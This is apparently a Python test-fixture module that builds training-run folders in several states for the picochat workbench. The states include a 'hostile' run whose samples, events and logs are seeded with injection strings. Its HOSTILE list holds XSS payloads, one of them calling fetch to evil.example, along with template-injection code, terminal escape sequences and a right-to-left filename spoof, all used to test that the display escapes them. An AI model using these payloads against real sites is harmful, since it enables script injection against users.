"""Folders of runs for the workbench: real ones in every state that a run can be in.

finished_run(factory)       a real tiny run, made once a session, whichever process asks first
copy_run(source, folder)    a copy to change
training(folder)            a run that trains at this moment
killed_run(folder)          a run whose process was ended by SIGKILL
blocked_run(folder)         a run that the gate blocks
hostile_run(source, folder) a run whose texts, events and logs attack whoever shows them
many_runs(folder, count)    folders as the list needs them, most of them finished
"""

from __future__ import annotations

import fcntl
import json
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from tests.support.green_run import GreenRun, judge
from tests.support.tiny_run import picochat, set_flags, start, tiny_settings, write_pack

from picochat.artifacts import layout
from picochat.core.events import iter_events
from picochat.core.jsonio import canonical_json

NAME = "tiny-1"
FIRST_STEP_S = 120.0
LONG = {"base.loop.tokens": 512 * 40_000, "base.loop.save_every": 200, "base.loop.eval_every": 200}


def finished_run(factory: pytest.TempPathFactory) -> Path:
    """A run from text to verdict with real weights; a warning or a block is a verdict too."""
    shared = factory.getbasetemp().parent if _beside_others(factory) else factory.getbasetemp()
    folder = shared / "workbench"
    folder.mkdir(exist_ok=True)
    with open(folder / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        root = folder / NAME
        if not (root / layout.GATE).exists():
            shutil.rmtree(root, ignore_errors=True)
            settings = tiny_settings(write_pack(folder / "pack"))
            done = picochat("run", "tiny", "--out-dir", root, "--quiet", *set_flags(settings))
            assert done.returncode in (0, 3), done.stderr
    return root


def _beside_others(factory: pytest.TempPathFactory) -> bool:
    return factory.getbasetemp().name.startswith("popen-")


def copy_run(source: Path, folder: Path, name: str | None = None) -> Path:
    """The run under another name."""
    root = folder / (name or source.name)
    shutil.copytree(source, root, symlinks=True)
    return root


@contextmanager
def training(folder: Path, name: str = "training", **settings: Any) -> Iterator[subprocess.Popen[str]]:
    """A run that is taking steps while the block lasts, and is killed after it if it still runs."""
    pack = write_pack(folder.parent / "pack-of-the-training")
    chosen = tiny_settings(pack, **(LONG | settings))
    popen = start("run", "tiny", "--out-dir", folder / name, "--quiet", *set_flags(chosen), cwd=folder.parent)
    try:
        wait_for_step(folder / name, popen)
        yield popen
    finally:
        popen.kill()
        popen.communicate()


def wait_for_step(root: Path, popen: subprocess.Popen[str]) -> None:
    """Until the first step of a training stands in the events."""
    until = time.monotonic() + FIRST_STEP_S
    while not any(event["kind"] == "step" for event in iter_events(root / layout.EVENTS)):
        assert popen.poll() is None, popen.stderr and popen.stderr.read()
        assert time.monotonic() < until, "no step was taken"
        time.sleep(0.2)


def killed_run(folder: Path, name: str = "killed") -> Path:
    """A training that met SIGKILL after its first steps."""
    with training(folder, name) as popen:
        popen.send_signal(signal.SIGKILL)
        popen.wait()
    return folder / name


def blocked_run(folder: Path, name: str = "blocked", **options: Any) -> Path:
    """A run of a scripted model that answers too little: the gate of a release blocks it."""
    root = folder / name
    rates = {"eval": 0.2, "heldout": 0.2, "fit": 0.9}
    GreenRun(root, name=name, rates=rates, profile="skill_release", **options).build()
    judge(root, "skill_release")
    return root


HOSTILE = (
    "<script>window.pwned = 1; alert(1)</script>",
    '"><img src=x onerror="window.pwned = 1; fetch(\'http://evil.example/\')">',
    "</script><svg onload=window.pwned=1>",
    "javascript:window.pwned=1",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202egnp.exe\u202c \u2066\u200f",
    "{{constructor.constructor('window.pwned=1')()}}",
    "a" * 5_000,
)


def hostile_run(source: Path, folder: Path, name: str = "hostile.-_run") -> Path:
    """A real run in whose samples, rows, events, logs and records those texts stand."""
    root = copy_run(source, folder, name)
    for path in (*root.glob("*/samples.jsonl"), *root.glob("eval/*.jsonl"), *root.glob("chat/*.jsonl")):
        rows = [json.loads(line) for line in path.read_text().splitlines()]
        path.write_bytes(b"".join(canonical_json(_poison(row, number)) + b"\n" for number, row in enumerate(rows)))
    with open(root / layout.EVENTS, "ab") as stream:
        last = sum(1 for _ in iter_events(root / layout.EVENTS))
        for number, text in enumerate(HOSTILE):
            event = {"seq": last + number + 1, "t": "2026-01-01T00:00:00.000Z", "attempt": 1, "stage": text[:40]}
            stream.write(canonical_json(event | {"kind": "warning", "message": text, "text": text}) + b"\n")
    log = root / layout.rank_log(0)
    log.parent.mkdir(exist_ok=True)
    log.write_text("\n".join(HOSTILE) + "\n", encoding="utf-8")
    return root


def _poison(row: dict[str, Any], number: int) -> dict[str, Any]:
    text = HOSTILE[number % len(HOSTILE)]
    touched = ("text", "prompt", "answer", "completion", "expected", "user", "assistant", "category")
    return {key: text if key in touched and isinstance(value, str) else value for key, value in row.items()}


def many_runs(folder: Path, count: int) -> None:
    """Finished runs with a record, a status, a gate and a few events each."""
    for number in range(count):
        root = folder / f"run-{number:03d}"
        root.mkdir()
        when = f"2026-01-{1 + number % 28:02d}T00:00:{number % 60:02d}.000Z"
        documents: dict[str, Any] = {
            layout.RUN: {"name": root.name, "profile": "tiny", "created_at": when, "config": {}, "origins": {}},
            layout.STATUS: {"state": "finished", "stage": "summary", "step": 40, "steps": 40, "tokens_per_s": 1000.0},
            layout.GATE: {"verdict": ("approved", "warn", "blocked")[number % 3], "profile": "research"},
        }
        for name, document in documents.items():
            (root / name).write_bytes(canonical_json(document))
        events = [
            {"seq": 1, "t": when, "attempt": 1, "stage": "base", "kind": "step", "step": 40, "loss": 2.0},
            {"seq": 2, "t": when, "attempt": 1, "stage": "summary", "kind": "stage_finished", "duration_s": 1.0},
        ]
        (root / layout.EVENTS).write_bytes(b"".join(canonical_json(event) + b"\n" for event in events))
